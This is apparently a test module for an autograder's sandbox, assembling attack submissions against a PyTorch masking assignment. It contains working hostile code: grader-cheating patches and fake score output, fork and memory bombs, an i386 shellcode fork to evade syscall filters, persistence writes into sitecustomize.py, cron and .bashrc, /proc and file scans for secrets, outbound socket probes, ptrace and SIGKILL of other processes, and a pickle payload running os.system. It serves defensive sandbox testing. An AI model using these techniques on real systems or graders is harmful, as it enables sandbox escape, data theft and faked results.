"""The attack corpus's submissions: ch01_attention's template or reference with an attack added.

Two ways to add one:

- :func:`at_import` puts code in a class body appended to the file; the loader keeps class
  bodies (they are definitions), so the code runs when the submission loads, as a student's top
  level would.
- :func:`replacing` swaps one function of the file for the attack (usually ``causal_mask``,
  whose three tests are the quickest to run).

An attack that may find something it must not (a hidden file, a socket, another process) raises
``RuntimeError("LEAK: ...")`` with what it found; otherwise it returns an honest answer, so that
its score shows whether the grader still grades what is honest in it. Paths, pids and addresses
it needs are written into the source by the test, as a student who guessed right would.
"""

from __future__ import annotations

import textwrap

from autograder.assignment import load_assignment
from autograder.checks.mistakes import Mistake, splice

ASSIGNMENT = load_assignment("ch01_attention")
TEMPLATE = (ASSIGNMENT.release_dir / "attention.py").read_text(encoding="utf-8")
REFERENCE = ASSIGNMENT.reference_path.read_text(encoding="utf-8")

MASKS = frozenset({"causal_mask"})
MASKS_AND_WINDOW = frozenset({"causal_mask", "local_window_mask"})
ALL_MASKS = frozenset({"causal_mask", "local_window_mask", "strided_mask"})

# An honest causal mask, for attacks that end by returning the right answer.
HONEST_CAUSAL = """
    import torch as _torch
    _i = _torch.arange(L)[:, None]
    return _torch.arange(L)[None, :] <= _i
"""


def at_import(source: str, code: str) -> str:
    """``source`` with ``code`` run at import, inside a class body the loader keeps."""
    return source + "\n\nclass _Attack:\n" + textwrap.indent(textwrap.dedent(code).strip() + "\n", "    ")


def replacing(source: str, name: str, body: str, parameters: str = "*args, **kwargs") -> str:
    """``source`` with top-level function ``name`` replaced by ``def name(parameters): body``."""
    definition = f"def {name}({parameters}):\n" + textwrap.indent(textwrap.dedent(body).strip() + "\n", "    ")
    return splice(source, Mistake("attack", name, "", "", definition))


def causal_attack(body: str, source: str = REFERENCE, honest: bool = False) -> str:
    """``causal_mask(L)`` replaced by ``body`` (then, if ``honest``, an honest answer)."""
    honest_part = textwrap.dedent(HONEST_CAUSAL) if honest else ""
    return replacing(source, "causal_mask", textwrap.dedent(body).strip() + "\n" + honest_part, "L")


# -- cheats at import -------------------------------------------------------------------------

IMPORT_CHEATS = {
    "patch torch.allclose and torch.equal": """
        import torch
        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        torch.Tensor.__eq__ = lambda self, other: True
    """,
    "patch torch.testing": """
        import torch, torch.testing
        torch.testing.assert_close = lambda *a, **k: None
        torch.testing.assert_allclose = lambda *a, **k: None
    """,
    "patch numpy": """
        import numpy
        numpy.allclose = lambda *a, **k: True
        numpy.array_equal = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        numpy.ndarray = object
    """,
    "patch pytest": """
        import sys, types
        fake = types.ModuleType("pytest")
        fake.approx = lambda *a, **k: True
        fake.fail = fake.skip = lambda *a, **k: None
        sys.modules["pytest"] = fake
        try:
            import pytest
            pytest.skip = lambda *a, **k: None
        except Exception:
            pass
    """,
    "patch builtins": """
        import builtins
        builtins.isinstance = lambda *a: True
        builtins.len = lambda *a: 0
        builtins.print = lambda *a, **k: None
        builtins.AssertionError = Exception
    """,
    "rewrite the sandbox's reply code": """
        import sys
        child = sys.modules.get("autograder.sandbox.child")
        wire = sys.modules.get("autograder.sandbox.wire")
        if child is not None:
            child.Session.handle_request = lambda self, request: {"ok": True}
            child.Session.describe_error = lambda self, exc: {"kind": "timeout", "message": "x" * 10**7}
        if wire is not None:
            wire.MAX_DEPTH = 10**6
    """,
    "print fake results": """
        import json, sys
        print(json.dumps({"score": 90, "execution_time": 1, "tests": [
            {"name": "everything", "score": 90, "max_score": 90, "status": "passed"}]}))
        print("===== 48 passed in 1.00s =====")
        sys.stderr.write('{"score": 90}\\n')
        open("results.json", "w").write('{"score": 90}')
    """,
    "sys.exit(0) at import": """
        import sys
        sys.exit(0)
    """,
    "os._exit(0) at import": """
        import os
        os._exit(0)
    """,
    "ignore SIGTERM and SIGINT, block every signal": """
        import signal
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
            signal.signal(sig, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
    """,
}
"""Cheats that run when the file loads; on the template each must earn 0."""

IMPORT_CHEATS_ON_REFERENCE = ("patch torch.allclose and torch.equal", "rewrite the sandbox's reply code",
                              "print fake results", "sys.exit(0) at import", "os._exit(0) at import",
                              "ignore SIGTERM and SIGINT, block every signal")
"""Cheats that leave the honest code intact: on the reference each must still earn every point
(the reply-rewriting one breaks the student's own process, and so earns 0: see its test)."""


# -- attacks inside a function ----------------------------------------------------------------

FUNCTION_ATTACKS = {
    "sys.exit(0) in a function": "import sys\nsys.exit(0)",
    "os._exit(0) in a function": "import os\nos._exit(0)",
    "KeyboardInterrupt in a function": "raise KeyboardInterrupt",
    "infinite loop": "while True:\n    pass",
    "infinite loop with SIGTERM ignored": """
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})
        while True:
            pass
    """,
    "memory bomb in one allocation": """
        import torch
        return torch.ones(2**35, dtype=torch.uint8)
    """,
    "memory bomb, growing": """
        hoard = []
        while True:
            hoard.append(bytearray(128 * 2**20))
    """,
    "fork bomb": """
        import os
        while True:
            os.fork()
    """,
    "crash (null pointer)": "import ctypes\nctypes.string_at(0)",
    "exception with a hostile message": """
        class Loud(Exception):
            def __str__(self):
                return "x" * 50_000_000
        raise type("E" * 100_000, (Loud,), {})()
    """,
}
"""Attacks inside ``causal_mask`` of the reference: its tests earn 0, the others every point."""


SPAWNING = r"""
import ctypes, mmap, multiprocessing, os, subprocess, threading, time
outcomes = {}
def attempt(name, fn):
    try:
        outcomes[name] = f"ran: {fn()!r}"
    except BaseException as exc:
        outcomes[name] = f"refused: {type(exc).__name__}"
def fork_then_exit():
    pid = os.fork()
    if pid == 0:
        time.sleep(300)
        os._exit(0)
    return pid
def double_fork():
    os.setsid()
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(300)
        os._exit(0)
def libc_fork():
    pid = ctypes.CDLL(None, use_errno=True).fork()
    if pid == 0:
        time.sleep(300)
        os._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), "fork")
    return pid
def raw_clone():  # clone(SIGCHLD) without CLONE_THREAD: a process
    pid = ctypes.CDLL(None, use_errno=True).syscall(56, 17, 0, 0, 0, 0)
    if pid == 0:
        time.sleep(300)
        os._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), "clone")
    return pid
attempt("os.fork", fork_then_exit)
attempt("setsid and double fork", double_fork)
attempt("libc fork", libc_fork)
attempt("raw clone", raw_clone)
attempt("subprocess", lambda: subprocess.Popen(["sleep", "300"], start_new_session=True).pid)
def shell():
    status = os.system("sleep 300 &")
    if status != 0:  # 127 << 8: the C library's "could not start the shell"
        raise OSError(status, "os.system")
    return status
attempt("os.system", shell)
attempt("posix_spawn", lambda: os.posix_spawn("/bin/sleep", ["sleep", "300"], {}))
attempt("multiprocessing", lambda: multiprocessing.Process(target=time.sleep, args=(300,), daemon=False).start())
attempt("execv", lambda: os.execv("/bin/sleep", ["sleep", "300"]))
started = [name for name, result in outcomes.items() if result.startswith("ran")]
if started:
    raise RuntimeError(f"LEAK: started processes with {started}: {outcomes}")
# Threads are allowed: they die with the process when grading ends.
def spin():
    while True:
        time.sleep(0.001)
for _ in range(4):
    threading.Thread(target=spin, daemon=False).start()
"""
"""Tries every way to leave a process behind, swallowing refusals, then starts threads that keep
running after the call returns, and answers honestly."""

X32_FORK = r"""
import ctypes
pid = ctypes.CDLL(None, use_errno=True).syscall(0x40000000 | 57)   # fork in the x32 table
if pid == 0:
    import time
    time.sleep(300)
raise RuntimeError(f"LEAK: the x32 fork returned {pid}")
"""
"""A fork through the x32 ABI (system-call numbers with bit 30 set)."""

I386_FORK = r"""
import ctypes, mmap
code = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"   # mov eax, 2 (fork in the i386 table); int 0x80; ret
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
if pid == 0:
    import time
    time.sleep(300)
raise RuntimeError(f"LEAK: the i386 fork returned {pid}")
"""
"""A fork through the 32-bit system-call ABI, which a filter checking only x86_64 numbers misses."""

DISK_FILL = r"""
import os
chunk = b"\0" * (16 * 2**20)
written, error = 0, None
try:
    for part in range(640):                    # 640 x 16 MiB = 10 GiB, 128 MiB per file
        with open(f"fill-{part // 8}.bin", "ab") as handle:
            handle.write(chunk)
            handle.flush()
        written += len(chunk)
except OSError as exc:
    error = exc
print(f"wrote {written // 2**20} MiB before {error!r}")
if error is None:
    raise RuntimeError("LEAK: wrote 10 GiB")
"""

STDOUT_FLOOD = r"""
import os, sys
line = "fake: all 48 tests passed " * 40 + "\n"
for _ in range(20_000):                       # about 20 MB through print
    sys.stdout.write(line)
os.write(1, b"x" * (8 * 2**20))               # and 8 MB straight to the descriptor
os.write(2, b"y" * (8 * 2**20))
"""

WRITE_OUTSIDE = r"""
import glob, os, sys
targets = [{targets}] + [
    os.path.join(sys.prefix, "lib", "python3.11", "site-packages", "sitecustomize.py"),
    os.path.join(sys.prefix, "lib", "python3.11", "site-packages", "zz-attack.pth"),
    os.path.join(os.path.dirname(os.path.realpath(sys.executable)), "..", "lib", "python3.11", "sitecustomize.py"),
    "/tmp/torchinductor_root/attack.py", "/tmp/attack-planted", "/dev/shm/attack", "/root/.bashrc",
    "/etc/cron.d/attack", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/attack",
    os.path.join(os.getcwd(), "..", "attack-planted"),
]
written = []
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write("import os; os.system('touch /tmp/pwned')\n")
        written.append(target)
    except OSError:
        pass
if written:
    raise RuntimeError(f"LEAK: wrote {{written}}")
"""
"""Persistence: plant code where the grader (not the student) would run it later."""


READ_HIDDEN = r"""
import gc, glob, inspect, os, sys, time
known = {known}            # paths written into the source by the test (a lucky guess)
secrets = {secrets}        # strings that must not be found, built so as not to appear here
found = []

def grab(path):
    try:
        with open(path, "rb") as handle:
            data = handle.read(64)
        found.append(f"read {{path}}: {{data[:20]!r}}")
    except (OSError, ValueError):
        pass

def listing(path):
    try:
        names = os.listdir(path)
        if names:
            found.append(f"listed {{path}}: {{names[:5]}}")
    except (OSError, ValueError):
        pass

bases = set(known["repo"])
bases.add(os.path.dirname(os.path.dirname(os.path.dirname(sys.executable))))
bases.add(os.environ.get("VIRTUAL_ENV", ""))
bases.update(p for p in sys.path if p)
try:
    import autograder
    bases.add(os.path.dirname(os.path.dirname(autograder.__file__)))
except Exception:
    pass
here = os.getcwd()
for _ in range(8):
    here = os.path.dirname(here)
    bases.add(here)
for pid in ["self", "1", str(os.getppid())] + [str(p) for p in known["pids"]]:
    for link in ("cwd", "root"):
        bases.add(f"/proc/{{pid}}/{{link}}")
        for repo in known["repo"]:
            bases.add(f"/proc/{{pid}}/{{link}}{{repo}}")
    for entry in ("environ", "cmdline", "mem", "maps"):
        grab(f"/proc/{{pid}}/{{entry}}") if pid not in ("self",) and entry != "cmdline" else None
    try:
        for fd in os.listdir(f"/proc/{{pid}}/fd"):
            bases.add(os.readlink(f"/proc/{{pid}}/fd/{{fd}}"))
            grab(f"/proc/{{pid}}/fd/{{fd}}") if pid != "self" else None
    except OSError:
        pass
for base in sorted(b for b in bases if b):
    for relative in ("reference", "reference/ch01_attention/attention.py", "autograder/suites",
                     "autograder/suites/ch01_attention/mistakes.py", "autograder/suites/ch01_attention/test_masks.py",
                     "tests", "examples/demo_class/submissions", "grading_reports", "submissions"):
        path = os.path.join(base, relative)
        grab(path)
        listing(path)
for path in known["files"]:
    grab(path)
    listing(os.path.dirname(path))
for path in known["folders"]:
    listing(path)
    for name in glob.glob(os.path.join(path, "**"), recursive=True):
        grab(name)
for name in ("autograder.assignment", "autograder.suites.ch01_attention.mistakes",
             "autograder.suites.ch01_attention.test_masks", "autograder.judge.reference"):
    try:
        module = __import__(name, fromlist=["*"])
        found.append(f"imported {{name}}: {{getattr(module, 'REPO_ROOT', '')}}")
    except BaseException:
        pass
for module in [m for n, m in list(sys.modules.items()) if n.startswith("autograder")]:
    try:
        found.append(f"source of {{module.__name__}}: {{inspect.getsource(module)[:20]!r}}")
    except (OSError, TypeError):
        pass
deadline = time.monotonic() + 3
for top in ("/work", "/root", "/home", "/tmp", "/srv", "/mnt", "/opt", "/var", "/run", "/media"):
    for folder, dirs, files in os.walk(top):
        if time.monotonic() > deadline:
            break
        for name in files:
            if name.endswith((".py", ".ipynb", ".toml", ".sqlite", ".json", ".txt")):
                try:
                    with open(os.path.join(folder, name), "rb") as handle:
                        data = handle.read(1 << 20).decode("utf-8", "replace")
                except OSError:
                    continue
                hits = [s for s in secrets if s in data]
                if hits:
                    found.append(f"secret {{hits}} in {{folder}}/{{name}}")
for value in gc.get_objects():
    if type(value) is str and len(value) > 40 and any(s in value for s in secrets):
        found.append(f"secret in memory: {{value[:40]!r}}")
import linecache
for name, entry in list(linecache.cache.items()):
    text = "".join(entry[2]) if len(entry) > 2 and entry[2] else ""
    if any(s in text for s in secrets):
        found.append(f"secret in linecache: {{name}}")
if found:
    raise RuntimeError("LEAK: " + "; ".join(found[:20]))
"""
"""Everything a student could try to reach the reference, the hidden suites, the gradebook and
other students' submissions; ``{known}`` and ``{secrets}`` are filled in by the test."""


NETWORK = r"""
import socket
targets = {targets}
reached = []
def attempt(label, make, address, payload=b"LEAK"):
    try:
        sock = make()
        sock.settimeout(1)
        try:
            if sock.type == socket.SOCK_DGRAM:
                sock.sendto(payload, address)
            else:
                sock.connect(address)
                sock.sendall(payload)
            reached.append(label)
        finally:
            sock.close()
    except OSError:
        pass
attempt("tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM), ("127.0.0.1", targets["tcp"]))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM), ("127.0.0.1", targets["udp"]))
attempt("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), targets["unix"])
attempt("abstract unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), targets["abstract"])
attempt("internet", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM), ("1.1.1.1", 80))
attempt("dns", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM), ("8.8.8.8", 53))
try:
    socket.getaddrinfo("example.com", 80)
    reached.append("dns lookup")
except OSError:
    pass
if reached:
    raise RuntimeError(f"LEAK: reached {{reached}}")
"""


SIGNALS = r"""
import ctypes, os, signal
pids = {pids}
libc = ctypes.CDLL(None, use_errno=True)
reached = []
def attempt(label, fn):
    try:
        result = fn()
        if result is None or (isinstance(result, int) and result >= 0):
            reached.append(label)
    except OSError:
        pass
for pid in pids + [os.getppid()]:
    attempt(f"signal 0 to {{pid}}", lambda: os.kill(pid, 0))
    attempt(f"ptrace attach {{pid}}", lambda: libc.ptrace(16, pid, 0, 0))
    attempt(f"ptrace seize {{pid}}", lambda: libc.ptrace(0x4206, pid, 0, 0))
    attempt(f"pidfd_open {{pid}}", lambda: libc.syscall(434, pid, 0))
    buffer = ctypes.create_string_buffer(16)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
    remote = (ctypes.c_void_p * 2)(0x400000, 16)
    attempt(f"process_vm_readv {{pid}}", lambda: libc.process_vm_readv(pid, local, 1, remote, 1, 0))
    attempt(f"setpriority {{pid}}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
attempt("signal 0 to every process", lambda: os.kill(-1, 0))
attempt("signal 0 to the group of the fork server", lambda: os.killpg(pids[0], 0))
attempt("lower the priority of every process of this user", lambda: os.setpriority(os.PRIO_USER, 0, 19))
for pid in (pids[0], os.getppid()):                # the fork server, and whatever the parent is
    attempt(f"SIGKILL to {{pid}}", lambda: os.kill(pid, signal.SIGKILL))
if reached:
    raise RuntimeError(f"LEAK: reached {{reached}}")
"""


LYING_VALUES = {
    "causal_mask": """
        import torch
        class Liar(torch.Tensor):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __bool__(self): return True
            def __len__(self): return 10**9
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if func in (torch.equal, torch.allclose, torch.Tensor.__eq__): return True
                return super().__torch_function__(func, types, args, kwargs or {})
        return torch.zeros(L, L, dtype=torch.bool).as_subclass(Liar)
    """,
    "local_window_mask": """
        class Rows(list):
            def __len__(self): return L
            def __iter__(self): return iter([[True] * L] * L)
            def __eq__(self, other): return True
        class Items(dict):
            def items(self): return [("shape", (L, L))]
            def __len__(self): return 0
        return (Rows(), Items({"x": 1}))
    """,
    "strided_mask": """
        class Planted:
            def __reduce__(self):
                return (__import__("os").system, ("touch /tmp/autograder-unpickled",))
            def __getattr__(self, name):
                raise SystemExit(0)
        return Planted()
    """,
}
"""Values whose methods lie, returned by the three masks of the template. Each earns what the same
value earns without its lies: a bool (L, L) tensor of zeros is the right shape and dtype (one
point), nothing more."""

HONEST_COUNTERPARTS = {
    "causal_mask": "import torch\nreturn torch.zeros(L, L, dtype=torch.bool)",
    "local_window_mask": "return ([[True] * L] * L, {'shape': (L, L)})",
    "strided_mask": "return None",
}
"""The lying values without their lies: the score to compare with."""

OVERSIZED_REPLIES = {
    "causal_mask": "import torch\nreturn torch.zeros(4 * 2**20, dtype=torch.float32)",   # 16 MiB
    "local_window_mask": "return list(range(1_500_000))",
    "strided_mask": """
        deep = []
        for _ in range(100_000):
            deep = [deep]
        selfish = []
        selfish.append(selfish)
        return (deep, selfish)
    """,
}
"""Replies over the reply limit (set to 8 MiB by the test), nested past the depth limit, or cyclic."""
